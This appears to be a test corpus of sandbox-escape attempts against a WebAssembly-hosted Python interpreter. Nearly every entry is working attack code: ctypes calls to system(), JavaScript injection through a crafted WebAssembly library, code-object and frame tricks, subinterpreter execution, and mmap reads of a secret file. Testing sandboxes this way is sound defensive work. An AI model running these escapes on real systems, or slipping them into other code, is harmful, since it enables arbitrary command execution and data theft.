# Attacks below Python: ctypes, code objects and bytecode, other interpreters, frames. Raw memory has a file of its own.

#! ctypes system
import ctypes
ctypes.CDLL(None).system(COMMAND.encode())

#! ctypes system through a function pointer
from ctypes import *
address = cast(CDLL(None).system, c_void_p).value
CFUNCTYPE(c_int, c_char_p)(address)(COMMAND.encode())

#! ctypes eval of JavaScript
import ctypes
run = ctypes.CDLL(None).emscripten_run_script_string
run.restype = ctypes.c_char_p
print(run(JS_PROOF.encode()))

#! ctypes eval of JavaScript without a result
import ctypes
script = "require('fs').writeFileSync(%r, 'x')" % MARKER
ctypes.CDLL(None).emscripten_run_script(('process.getBuiltinModule("fs").writeFileSync(%r, "x")' % MARKER).encode())

#! Python's C interface
import ctypes
ctypes.pythonapi.PyRun_SimpleString(b'import os; os.system(%s)' % repr(COMMAND).encode())

#! library file opened by hand
import _ctypes
handle = _ctypes.dlopen(None, 2)
print(_ctypes.dlsym(handle, 'system'))
import ctypes
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(_ctypes.dlsym(handle, 'system'))(COMMAND.encode())

#! every risky function of the C library by name
import ctypes
library = ctypes.CDLL(None)
for name in ['popen', 'execve', 'fork', 'vfork', 'posix_spawn', 'system', 'emscripten_run_script', 'emscripten_async_wget', 'emscripten_fetch', 'mount', 'chroot', 'dlopen']:
    try:
        getattr(library, name)(COMMAND.encode(), b'r', 0)
    except BaseException as error:
        print(name, type(error).__name__)

#= every import of the interpreter by symbol
import ctypes
library = ctypes.CDLL(None)
names = ['_emscripten_system', 'emscripten_asm_const_int', '_emscripten_run_script', 'ffi_call_js', 'JsvObject_CallMethod', 'JsProxy_Call_js', 'js2python_js', 'hiwire_new_value', 'run_sync_not_supported', 'pyodide_js_init', 'eval_js', '_Py_emscripten_runtime', '__syscall_connect', 'emscripten_websocket_new', 'emscripten_fetch', 'saveSetjmp', '_emscripten_fs_load_embedded_files', 'descr_set_trampoline_call', '_dlopen_js', '_dlsym_js', 'create_promise_handles']
for name in names:
    try:
        function = getattr(library, name)
        function.restype = ctypes.c_int
        print(name, function(COMMAND.encode(), 0, 0, 0))
    except BaseException as error:
        print(name, type(error).__name__)

#! crafted WebAssembly library that carries JavaScript
def leb(number):
    out = b''
    while True:
        byte, number = number & 127, number >> 7
        if number:
            out += bytes([byte | 128])
        else:
            return out + bytes([byte])
def section(kind, body):
    return bytes([kind]) + leb(len(body)) + body
def text(value):
    return leb(len(value)) + value
# The loader evaluates `() => BODY`: what follows the comma runs at once.
script = ('()<::>0, process.getBuiltinModule("fs").writeFileSync(%r, "x")' % MARKER).encode() + b'\0'
body = script
memory = leb(len(body)) + leb(0) + leb(0) + leb(0)
dylink = section(0, text(b'dylink.0') + b'\x01' + leb(len(memory)) + memory)
imports = section(2, leb(2) + text(b'env') + text(b'memory') + b'\x02\x00\x00' + text(b'env') + text(b'__memory_base') + b'\x03\x7f\x00')
globals_ = section(6, leb(1) + b'\x7f\x00\x41\x00\x0b')
exports = section(7, leb(1) + text(b'__em_js__evil') + b'\x03' + leb(1))
data = section(11, leb(1) + b'\x00\x23\x00\x0b' + text(body))
with open('/tmp/evil.so', 'wb') as file:
    file.write(b'\0asm\x01\0\0\0' + dylink + imports + globals_ + exports + data)
import ctypes
ctypes.CDLL('/tmp/evil.so')

#= extension module of our own
with open('/tmp/evilext.cpython-314-wasm32-emscripten.so', 'wb') as file:
    file.write(b'\0asm\x01\0\0\0')
import sys
sys.path.insert(0, '/tmp')
import evilext

#= code object with wild bytecode
import types
def victim():
    return 1
for opcode in (82, 83, 84, 90, 100, 116, 124, 137, 160, 200, 250):
    try:
        wild = victim.__code__.replace(co_code=bytes([149, 0, opcode, 250, 36, 0]))
        print(opcode, type(types.FunctionType(wild, {})()))
    except Exception as error:
        print(opcode, type(error).__name__)

#= marshalled code
import marshal, types
code = compile('import os; os.system(%r)' % COMMAND, 'x', 'exec')
types.FunctionType(marshal.loads(marshal.dumps(code)), {'__builtins__': __builtins__})()

#! marshalled rubbish
import marshal
for seed in range(200):
    try:
        marshal.loads(bytes((seed * 37 + n * n) % 256 for n in range(40)))
    except Exception:
        pass
import os
os.system(COMMAND)

#! code of a function replaced
def harmless():
    return 1
def evil():
    import os
    return os.system(COMMAND)
harmless.__code__ = evil.__code__
harmless()

#! function made from a code object
import types
code = compile('__import__("os").system(%r)' % COMMAND, 'x', 'eval')
types.FunctionType(code, {})()

#! function type reached through a lambda
maker = type(lambda: 0)
maker(compile('__import__("os").system(%r)' % COMMAND, 'x', 'eval'), {})()

#= allowed import called through a patched table index
import ctypes
library = ctypes.CDLL(None)
for name in ['write', 'open', 'ioctl', 'syscall', 'umask', 'chdir', 'mknod', 'mmap', 'poll']:
    try:
        print(name, getattr(library, name)(COMMAND.encode(), 0, 0, 0, 0, 0))
    except BaseException as error:
        print(name, type(error).__name__)

#= test module of the interpreter
import _testcapi
print(_testcapi.run_in_subinterp('import os; os.system(%r)' % COMMAND))

#= sub-interpreter
import _interpreters
interpreter = _interpreters.create()
_interpreters.exec(interpreter, 'import os; os.system(%r)' % COMMAND)

#= interpreters of the standard library
from concurrent import interpreters
interpreters.create().exec('import os; os.system(%r)' % COMMAND)

#= remote execution in the own process
import sys, os
with open('/tmp/remote.py', 'w') as file:
    file.write('import os; os.system(%r)' % COMMAND)
sys.remote_exec(os.getpid(), '/tmp/remote.py')

#! crash handler writes to a descriptor
import faulthandler
for number in range(3, 12):
    try:
        faulthandler.dump_traceback(number)
    except Exception:
        pass
import os
os.system(COMMAND)

#! forged traceback and frame objects
import types
try:
    1 / 0
except ZeroDivisionError as error:
    trace = error.__traceback__
frame = trace.tb_frame
while frame.f_back:
    frame = frame.f_back
frame.f_builtins['__import__']('os').system(COMMAND)

#! local variables of the kernel changed
import sys
frame = sys._getframe()
while frame:
    for name in list(frame.f_locals):
        if name in ('frame', 'name', 'sys', 'os', 'COMMAND'):
            continue
        try:
            frame.f_locals[name] = None
        except Exception:
            pass
    frame = frame.f_back
import os
os.system(COMMAND)

#= deep recursion in C
value = []
for _ in range(100_000):
    value = [value]
try:
    repr(value)
except RecursionError:
    print('recursion')
import os
os.system(COMMAND)

#= memory mapping
import mmap
area = mmap.mmap(-1, 65536)
print(bytes(area[:64])[:0])
with open(SECRET_FILE, 'rb') as file:
    print(bytes(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)))

#= resource limits lifted
import resource, os
resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
os.system(COMMAND)
